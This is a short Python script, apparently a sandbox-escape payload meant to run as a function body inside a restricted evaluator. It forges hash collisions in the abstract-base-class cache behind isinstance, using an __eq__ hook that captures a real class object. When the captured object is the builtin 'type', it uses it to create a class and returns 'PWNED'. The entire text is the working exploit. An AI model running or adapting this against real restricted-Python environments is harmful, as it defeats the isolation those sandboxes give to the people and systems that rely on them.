import collections.abc


class Key:
    """Stands where a class is looked for in the cache, with the hash that a class at some address has."""

    def __hash__(self):
        return Key.hash

    def __eq__(self, other):
        Key.got = other
        return False


class Liar:
    def __getattribute__(self, name):
        return key if name == "__class__" else None


Key.got = None
key, liar = Key(), Liar()
isinstance(int, collections.abc.Callable)
middle = hash(object)
for step in range(40_000):
    for Key.hash in (middle + step, middle - step):
        try:
            isinstance(liar, collections.abc.Callable)
        except TypeError:
            pass
        if Key.got is not None and Key.got is not type(Key.got) and repr(Key.got) == "<class 'type'>":
            return "PWNED " + repr(Key.got("Made", (), {}))
return "no"
